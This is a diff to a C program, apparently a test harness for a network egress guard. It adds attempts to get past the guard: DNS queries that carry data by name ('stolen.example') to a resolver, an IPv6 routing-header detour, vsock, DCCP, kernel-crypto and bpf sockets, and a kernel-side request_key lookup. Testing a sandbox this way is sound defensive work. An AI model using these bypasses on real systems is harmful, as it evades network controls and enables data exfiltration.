@@ -1,4 +1,4 @@
-/* Ways past an egress guard. `bypass V4 V6 BASE ALLOWED OWN` runs each attempt in a child of its own;
+/* Ways past an egress guard. `bypass V4 V6 BASE ALLOWED OWN RESOLVER ALLOWED6` runs each attempt in a child of its own;
  * attempt number n aims at port BASE+n, so that packets seen on the wire tell which one it was.
  * Prints "NUMBER NAME RESULT" lines; `bypass names` prints the names alone. */
 #define _GNU_SOURCE
@@ -31,7 +31,7 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
-static struct sockaddr_in v4, allowed, own;
+static struct sockaddr_in v4, allowed, own, resolver;
 static struct sockaddr_in6 v6;
 static char **arguments;
 static pid_t guard;
@@ -323,6 +323,63 @@ static int executed_from_memory(void) {
     wait(&result);
     return WEXITSTATUS(result);
 }
+static int denied_port(void) { /* of an allowed host */
+    struct sockaddr_in to = allowed;
+    to.sin_port = htons(ntohs(v4.sin_port) + 1000);
+    return done(connect(tcp(), (void *)&to, sizeof to));
+}
+static int denied_port_udp(void) {
+    struct sockaddr_in to = allowed;
+    to.sin_port = htons(ntohs(v4.sin_port) + 1000);
+    return done(sendto(udp(), "x", 1, 0, (void *)&to, sizeof to));
+}
+static int allowed_port_udp(void) { /* a rule is about TCP */
+    struct sockaddr_in to = allowed;
+    to.sin_port = v4.sin_port;
+    return done(sendto(udp(), "x", 1, 0, (void *)&to, sizeof to));
+}
+static const char question[] = "\0\7\1\0\0\1\0\0\0\0\0\0\6stolen\7example\0\0\1\0\1";
+static int resolver_udp(void) { /* carry something out by a name */
+    return done(sendto(udp(), question, sizeof question - 1, 0, (void *)&resolver,
+                       sizeof resolver));
+}
+static int resolver_tcp(void) {
+    int one = tcp();
+    char answer[512], framed[2 + sizeof question - 1] = {0, sizeof question - 1};
+    memcpy(framed + 2, question, sizeof question - 1);
+    if (connect(one, (void *)&resolver, sizeof resolver)) return errno;
+    if (send(one, framed, sizeof framed, MSG_NOSIGNAL) < 0) return errno;
+    return recv(one, answer, sizeof answer, 0) > 5 && (answer[5] & 15) ? ENOENT : 0;
+}
+static int routing_header(void) { /* to an allowed address, by way of the forbidden one */
+    struct { unsigned char head[8]; struct in6_addr hops[2]; } route = {{0, 4, 4, 1, 1}};
+    struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_port = v6.sin6_port};
+    inet_pton(AF_INET6, arguments[7], &to.sin6_addr);
+    route.hops[0] = to.sin6_addr;
+    route.hops[1] = v6.sin6_addr;
+    int one = socket(AF_INET6, SOCK_STREAM | SOCK_NONBLOCK, 0);
+    if (setsockopt(one, IPPROTO_IPV6, 57, &route, sizeof route)) return errno;
+    int result = done(connect(one, (void *)&to, sizeof to));
+    usleep(50000);
+    return result;
+}
+static int vsock(void) { /* to the machine's own host */
+    struct { unsigned short family, zero; unsigned port, cid, more; } to = {40, 0, 1234, 2, 0};
+    int one = socket(40, SOCK_STREAM, 0);
+    return one < 0 ? errno : done(connect(one, (void *)&to, sizeof to));
+}
+static int kernel_crypto(void) { return done(socket(38, SOCK_SEQPACKET, 0)); }
+static int dccp(void) {
+    int one = socket(AF_INET, 6, 33);
+    return one < 0 ? errno : done(connect(one, (void *)&v4, sizeof v4));
+}
+static int key_request(void) { /* has the kernel look a name up */
+    return done(syscall(SYS_request_key, "dns_resolver", "stolen.example", "", 0));
+}
+static int bpf_call(void) {
+    char attributes[128] = {0};
+    return done(syscall(SYS_bpf, 0, attributes, sizeof attributes));
+}
 static int guard_itself(void) { /* look into the guard, or borrow a descriptor of it */
     char path[64];
     if (!getenv("GUARDED")) return connect4();
@@ -346,7 +403,10 @@ static const struct { const char *name; int (*run)(void); } attempts[] = {
     ATTEMPT(call_x32), ATTEMPT(daemonized), ATTEMPT(threaded), ATTEMPT(user_namespace),
     ATTEMPT(raw_in_user_namespace), ATTEMPT(passed_by_message), ATTEMPT(accepted_again),
     ATTEMPT(reconnected), ATTEMPT(own_filter), ATTEMPT(other_user), ATTEMPT(hidden_memory),
-    ATTEMPT(executed_from_memory), ATTEMPT(guard_itself),
+    ATTEMPT(executed_from_memory), ATTEMPT(guard_itself), ATTEMPT(denied_port),
+    ATTEMPT(denied_port_udp), ATTEMPT(allowed_port_udp), ATTEMPT(resolver_udp),
+    ATTEMPT(resolver_tcp), ATTEMPT(routing_header), ATTEMPT(vsock), ATTEMPT(kernel_crypto),
+    ATTEMPT(dccp), ATTEMPT(key_request), ATTEMPT(bpf_call),
 };
 
 static void aim(const char *four, const char *six, int port) {
@@ -375,13 +435,15 @@ int main(int count, char **given) {
         return connect4();
     }
     for (int i = 0; i < number; i++) {
-        if (count < 6) {
+        if (count < 8) {
             puts(attempts[i].name);
             continue;
         }
         aim(given[1], given[2], atoi(given[3]) + i);
         allowed = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(80)};
         inet_pton(AF_INET, given[4], &allowed.sin_addr);
+        resolver = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(53)};
+        inet_pton(AF_INET, given[6], &resolver.sin_addr);
         own = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = v4.sin_port};
         inet_pton(AF_INET, given[5], &own.sin_addr);
         fflush(stdout);
